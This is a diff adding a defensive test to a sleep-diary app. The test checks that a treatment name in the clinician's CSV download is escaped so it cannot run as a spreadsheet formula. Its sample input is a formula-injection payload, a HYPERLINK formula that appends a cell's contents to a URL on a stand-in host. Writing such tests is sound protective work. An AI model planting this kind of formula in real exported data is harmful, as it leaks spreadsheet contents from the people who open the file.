@@ -58,3 +58,27 @@ def test_cells_use_the_words_the_pages_use_not_the_codes():
 def test_a_quiet_night_leaves_the_words_empty_not_a_code():
     (row,) = _rows(NightRecord(date(2026, 11, 20)))
     assert [row[column] for column in ("daytime_impairment", "muscle", "relief")] == ["", "", ""]
+
+
+def test_a_treatment_name_in_the_downloaded_csv_cannot_run_as_a_formula(patient, patient_client):
+    """Through the download a clinician opens in a spreadsheet, not the builder alone."""
+    from datetime import timedelta
+
+    from diary.dates import patient_today
+    from diary.nights import night_save
+    from diary.records import TreatmentRecord
+    from diary.treatments import treatment_save
+
+    today = patient_today(patient)
+    night = today - timedelta(days=1)
+    night_save(patient=patient, record=NightRecord(night))
+    name = '=HYPERLINK("http://x.example/?"&A1,"Open")'
+    treatment_save(
+        patient=patient,
+        record=TreatmentRecord(name, "magnesium", night - timedelta(days=3)),
+        today=today,
+    )
+    response = patient_client.get("/summary/csv/?range=30")
+    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
+    taken = [row["treatments"] for row in rows if row["treatments"]]
+    assert taken == ["'" + name]
